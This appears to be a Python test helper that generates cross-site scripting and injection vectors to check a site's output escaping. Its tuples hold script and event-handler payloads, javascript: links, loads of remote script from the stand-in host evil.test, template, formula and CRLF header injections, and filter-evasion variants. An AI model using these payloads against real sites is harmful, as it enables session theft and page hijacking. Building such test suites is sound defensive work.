"""Vectors: texts that run or break out where somebody forgot to escape, as many as templates of attacks give."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

_RUN = "pwn()"
_TAGS = (
    "<script>{run}</script>", "<script src=//evil.test/x.js></script>", "<img src=x onerror={run}>", "<svg onload={run}>",
    "<svg><script>{run}</script></svg>", "<iframe srcdoc='<script>parent.{run}</script>'>", "<iframe src=javascript:{run}>",
    "<object data=javascript:{run}>", "<embed src=//evil.test>", "<details open ontoggle={run}>x", "<body onload={run}>",
    "<input autofocus onfocus={run}>", "<video><source onerror={run}>", "<marquee onstart={run}>", "<math><mtext><img src=x onerror={run}>",
    "<style>@import '//evil.test/x.css';</style>", "<link rel=stylesheet href=//evil.test/x.css>", "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test/'>", "<form action=//evil.test><button>x", "<a href=javascript:{run}>x</a>",
    "<a href=//evil.test>x</a>", "<template><img src=x onerror={run}></template>", "<noscript><img src=x onerror={run}></noscript>",
    "<table background=//evil.test>", "<img srcset='//evil.test/x 1x'>", "<x style=background:url(//evil.test)>", "<audio src onerror={run}>",
    "<svg><a xlink:href=javascript:{run}><text y=9>x", "<svg><use href=//evil.test#x>", "<svg><animate onbegin={run}>", "<p id=main-content>",
    "<textarea></textarea><img src=x onerror={run}>", "<!--><img src=x onerror={run}>-->", "<![CDATA[><img src=x onerror={run}>]]>",
    "<select><img src=x onerror={run}>", "<a name=x id=site-search>", "<save-program data-title=x>", "<moved-page><a href=//evil.test>x</a></moved-page>",
)  # fmt: skip
_OPENINGS = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "</title>",
    "</script>",
    "</style>",
    "</textarea>",
    "--&gt;",
    "-->",
    "]]>",
    "&quot;>",
    "`",
)
_ATTRIBUTES = (
    'x" onmouseover="{run}', "x' onfocus='{run}' autofocus='", 'x" style="background:url(//evil.test)', 'x" autofocus onfocus="{run}" y="',
    'x"onclick={run}//', "x onerror={run}", 'x" href="javascript:{run}', 'x" srcdoc="<script>{run}</script>', "x`onload={run}`", 'x"/><x y="',
)  # fmt: skip
_MARKDOWN = (
    "[x](javascript:{run})", "[x](JaVaScRiPt:{run})", "[x](&#106;avascript:{run})", "[x](java\\script:{run})", "[x](data:text/html,<script>{run}</script>)",
    "[x](vbscript:{run})", "<javascript:{run}>", "[x][1]\n\n[1]: javascript:{run}", '[x](https://ok.test "onerror={run}")', "[x](//evil.test)",
    '[x](https://ok.test "<table><meta http-equiv=refresh content=0;url=//evil.test>")', '[x](https://ok.test "[[page:home]]")', "[[page:home|<img src=x onerror={run}>]]",
    "[x](https://ok.test/[[page:home]])", "![[[page:home]]](https://ok.test/x.png)", "![x](javascript:{run})", "![x](//evil.test/x.png)", "[x](https:evil.test)",
    "[x](https://ok.test\" onclick=\"{run})", "`<script>{run}</script>`", "```\n</code><script>{run}</script>\n```", "    <script>{run}</script>",
    "[[fact:x\" onclick=\"{run}]]", "[[guide:../../x]]", "[[chart:<script>]]", "# <script>{run}</script>", "| <script>{run}</script> |\n|---|\n| x |",
    "<https://ok.test/\"onclick={run}>", "[x](https://ok.test/'\"><script>{run}</script>)", "&#x3c;script&#x3e;{run}&#x3c;/script&#x3e;", "\\<script>{run}\\</script>",
    "[a](https://ok.test '\\'><script>{run}</script>')", "[x]: <javascript:{run}>", "[<img src=x onerror={run}>](https://ok.test)",
)  # fmt: skip
_TEXTS = (
    "{{ 7*7 }}", "{% raw %}", "{{ config }}", "${{pwn()}}", "#{{pwn()}}", "<%= {run} %>", "__proto__", "constructor", "toString", "hasOwnProperty", "=HYPERLINK(0)",
    "+1+1", "-1+1", "@SUM(1)", "\u202egnp.exe", "\u2066x", "\ue000" + "0i" + "\ue001", "&#xe000;0i&#xe001;", "\ue002", "PROGRAM-SLUG", "\x00", "\x1b[2J", "\ufffe",
    "\u2028{run}//", "javascript:{run}", "javascript:{run}//https://ok.test", "//evil.test", "\\\\evil.test", "https:\\\\evil.test", "data:text/html,x", "%3Cscript%3E",
    "';{run}//", '";{run}//', "`;{run}//", "</script><script>{run}//", "*/{run}/*", "<!--", "]]>", "\\u003cscript\\u003e", "a\nb", "a\r\nSet-Cookie: x", "x" * 5000,
    "&lt;script&gt;{run}&lt;/script&gt;", "&amp;lt;script>", "<<script>{run}</script>", "< script>{run}</script>", "<scr<script>ipt>{run}</script>", "＜script＞{run}＜/script＞",
    "\u017fcript", "<\x00script>{run}</script>", "<script\x20type=module>{run}</script>", "<ScRiPt>{run}</sCrIpT>", "<script/x>{run}</script>", "<svg/onload={run}>",
)  # fmt: skip


def list_vectors() -> list[str]:
    """Every vector, each once."""
    return list(dict.fromkeys(text.replace("{run}", _RUN) for text in _all()))


def numbered(vector: str, number: int) -> str:
    """The vector that tells its number when it runs or asks for something elsewhere."""
    return vector.replace("pwn()", f"pwn({number})").replace("evil.test", f"v{number}.evil.test")


def _all() -> Iterator[str]:
    yield from (opening + tag for opening, tag in product(_OPENINGS, _TAGS))
    yield from (before + text for before, text in product(("", "Name ", "é&"), _ATTRIBUTES))
    yield from _MARKDOWN
    yield from (before + text for before, text in product(("", "Name "), _TEXTS))
